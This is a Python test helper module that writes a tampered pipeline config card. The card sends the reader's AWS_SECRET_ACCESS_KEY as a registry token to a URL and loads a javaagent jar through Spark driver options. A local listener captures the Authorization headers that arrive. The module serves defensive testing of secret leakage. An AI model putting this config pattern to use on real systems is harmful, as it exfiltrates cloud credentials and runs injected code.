"""A card that somebody else has changed: it names a file that sends secrets to a listener."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

VARIABLE = "AWS_SECRET_ACCESS_KEY"
SECRET = "a secret of the tests"

_FILE = """
name: games
source: {{type: delta, path: {lake}/bronze, value: value}}
registry: {{url: {url}, token: '${{env:AWS_SECRET_ACCESS_KEY}}'}}
envelope: {{format: protobuf, subject: wrapper-value, type: game_name}}
payload: {{format: protobuf}}
tables: {{each: "silver_{{type}}"}}
lake: {{path: {lake}}}
spark: {{conf: {{spark.driver.extraJavaOptions: '-javaagent:{lake}/agent.jar'}}}}
"""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """An address, and what was sent to it: the header of each login."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.headers.get("Authorization", ""))
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def write_hostile(file: Path, *, lake: Path, url: str) -> Path:
    """A pipeline file that logs in at an address with a variable of whoever reads it."""
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(_FILE.format(lake=lake, url=url))
    return file
